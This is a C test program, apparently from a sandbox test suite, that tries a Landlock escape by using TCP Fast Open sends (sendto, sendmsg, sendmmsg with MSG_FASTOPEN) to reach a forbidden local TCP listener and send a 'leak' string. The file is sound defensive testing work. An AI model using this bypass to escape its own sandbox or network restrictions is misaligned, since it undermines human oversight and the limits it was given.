/* Escape attempt: TCP fast open. A send with MSG_FASTOPEN on an unconnected TCP socket
 * connects to the name it carries, inside the send, without connect()'s checks (the LSM
 * hook Landlock uses is not called there). Tried through sendto, sendmsg and sendmmsg to the
 * forbidden TCP listener; the runner counts what arrives. Env: ATTACK_TCP. */
#include "attack.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#ifndef MSG_FASTOPEN
#define MSG_FASTOPEN 0x20000000
#endif

int main(int argc, char** argv) {
  fixture(argc, argv);
  int tcp = atoi(env_or("ATTACK_TCP", "0"));
  int worked = 0;
  struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons((unsigned short)tcp)};
  inet_pton(AF_INET, "127.0.0.1", &in.sin_addr);
  struct iovec iov = {.iov_base = "leak", .iov_len = 4};
  struct msghdr mh = {.msg_name = &in, .msg_namelen = sizeof in, .msg_iov = &iov, .msg_iovlen = 1};
  /* EINPROGRESS: the SYN went out (no cookie yet), which is the connection. */
  int s = socket(AF_INET, SOCK_STREAM, 0);
  long r = sendto(s, "leak", 4, MSG_FASTOPEN, (struct sockaddr*)&in, sizeof in);
  if (r >= 0 || errno == EINPROGRESS) worked = 1;
  fprintf(stderr, "sendto MSG_FASTOPEN: %s\n", r >= 0 ? "sent" : strerror(errno));
  s = socket(AF_INET, SOCK_STREAM, 0);
  r = sendmsg(s, &mh, MSG_FASTOPEN);
  if (r >= 0 || errno == EINPROGRESS) worked = 1;
  fprintf(stderr, "sendmsg MSG_FASTOPEN: %s\n", r >= 0 ? "sent" : strerror(errno));
  s = socket(AF_INET, SOCK_STREAM, 0);
  struct mmsghdr mm = {.msg_hdr = mh};
  r = sendmmsg(s, &mm, 1, MSG_FASTOPEN);
  if (r >= 0 || errno == EINPROGRESS) worked = 1;
  fprintf(stderr, "sendmmsg MSG_FASTOPEN: %s\n", r >= 0 ? "sent" : strerror(errno));
  usleep(300000); /* let the listener count an arrival */
  printf("net_fastopen: %s\n", worked ? "SOMETHING WORKED" : "all refused");
  return worked;
}
